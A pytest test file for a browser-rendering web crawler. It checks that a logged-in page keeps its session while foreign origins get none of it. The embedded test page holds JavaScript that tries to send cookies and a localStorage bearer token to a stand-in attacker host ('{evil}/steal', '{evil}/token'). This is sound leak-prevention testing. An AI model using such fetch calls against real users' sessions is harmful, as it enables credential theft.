"""A page under a session in a real browser: it has its login, and nobody whom it asks gets it."""

import pytest

from tests.crawler.render.conftest import chromium, sandbox  # noqa: F401 - fixtures
from tests.crawler.sessions.login_site import SECRET, seen_of_children
from tests.crawler.sessions.test_session_crawl import archived, held, stored
from thresher.crawler.sessions.profile import OriginStorage, ProfileCookie, StorageItem
from thresher.crawler.sessions.profile_key import KEY_VARIABLE
from thresher.crawler.sessions.session_settings import HostLogin
from thresher.crawler.worker import run_worker

TOKEN = "t0ken-of-the-local-storage"
APP = """<!doctype html><title>Members</title><p id=out></p>
<form method=post action="{evil}/form"><input name=x></form>
<iframe src="{evil}/frame"></iframe><iframe src="/framed"></iframe>
<img src="{evil}/pixel.gif"><script src="{evil}/lib.js"></script>
<script>
document.cookie = 'csrf=7; path=/';
document.cookie = 'foreign=1; domain=127.0.0.2; path=/';
const token = localStorage.getItem('token');
const say = (name, text) => document.getElementById('out').append('[' + name + ' ' + text + ']');
const ask = (name, url, options) =>
  fetch(url, options).then(r => r.text()).then(text => say(name, text), () => say(name, 'refused'));
(async () => {{
  say('hidden', document.cookie.includes('hidden='));
  await ask('own', '/data', {{headers: {{Authorization: 'Bearer ' + token, 'X-Token': token}}}});
  await ask('other', '{evil}/steal', {{credentials: 'include'}});
  await ask('token', '{evil}/token', {{headers: {{Authorization: 'Bearer ' + token}}}});
  await ask('away', '/leads-away', {{credentials: 'include'}});
  await ask('out', '/logout');
  document.forms[0].submit();
}})();
</script>"""


@pytest.fixture
def rendering(crawl, sandbox):
    crawl.sandbox = sandbox
    return lambda logins, **limits: run_worker(
        crawl.config("w", logins=logins, render="always", timeout_s=30, **limits)
    )


@pytest.fixture
def logins(save, members):
    path = save(
        "ada",
        cookies=(ProfileCookie(name="hidden", value=SECRET, domain=members.address, http_only=True),),
        origins=(
            OriginStorage(origin=members.url, local_storage=(StorageItem(name="token", value=TOKEN),)),
            OriginStorage(origin="http://127.0.0.2", local_storage=(StorageItem(name="token", value=TOKEN),)),
        ),
        user_agent="agent-of-ada",
    )
    return (HostLogin(host=members.address, profiles=(path,)),)


def everybody(headers=()):
    return {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*", **dict(headers)}


@pytest.mark.slow
def test_a_page_has_its_login_and_others_whom_it_asks_get_nothing_of_it(
    crawl, members, elsewhere, rendering, logins
):
    members.pages["/app"] = APP.format(evil=elsewhere.url)
    processes = []
    answer = members.answer

    def members_only(path, cookie):
        if path == "/data":
            processes.extend(seen_of_children())
            return 200, {"Set-Cookie": "fresh=an0ther-s3cr3t"}, "data for members"
        if path == "/leads-away":
            return 302, {"Location": f"{elsewhere.url}/stolen"}, ""
        return answer(path, cookie)

    members.answer = members_only
    elsewhere.answer = lambda path, _: (404 if path == "/robots.txt" else 200, everybody(), "for everybody")
    crawl.seed(f"{members.url}/app", max_depth=0)
    rendering(logins)

    everything = stored(crawl)
    assert b"[own data for members]" in everything
    assert b"[other refused]" in everything
    assert b"[out refused]" in everything
    assert b"[hidden false]" in everything
    (own,) = [headers for _, path, headers in members.requests if path == "/data"]
    assert set(own["Cookie"].split("; ")) == {f"sid={SECRET}", f"hidden={SECRET}", "csrf=7"}
    assert own["Authorization"] == f"Bearer {TOKEN}"
    assert own["User-Agent"] == "agent-of-ada"
    assert "/logout" not in members.paths
    assert "/framed" not in members.paths
    assert {"/lib.js", "/steal"} <= set(elsewhere.paths)
    assert not {"/form", "/frame"} & set(elsewhere.paths)
    for _, path, headers in elsewhere.requests:
        assert "Cookie" not in headers, path
        assert headers["User-Agent"] != "agent-of-ada", path
    hidden = (SECRET, TOKEN, "an0ther-s3cr3t", "\ncookie:", "\nset-cookie:", "\nauthorization:", "\nx-token:")
    assert not [each for each in hidden if each.lower().encode() in everything.lower()]
    assert len(processes) >= 3
    assert not [each for each in processes if KEY_VARIABLE in each or SECRET in each or TOKEN in each]


@pytest.mark.slow
def test_a_login_form_that_a_script_shows_is_the_end_of_a_login_and_is_not_archived(
    crawl, members, rendering, logins
):
    members.pages["/app"] = (
        "<!doctype html><body><script>document.title = 'Log in'; "
        "document.body.innerHTML = '<form><input name=u><input type=password></form>'</script>"
    )
    crawl.seed(f"{members.url}/app", max_depth=0)
    rendering(logins, max_requests=2)
    assert archived(crawl) == []
    assert held(crawl)[members.address].reason == "login_ended"
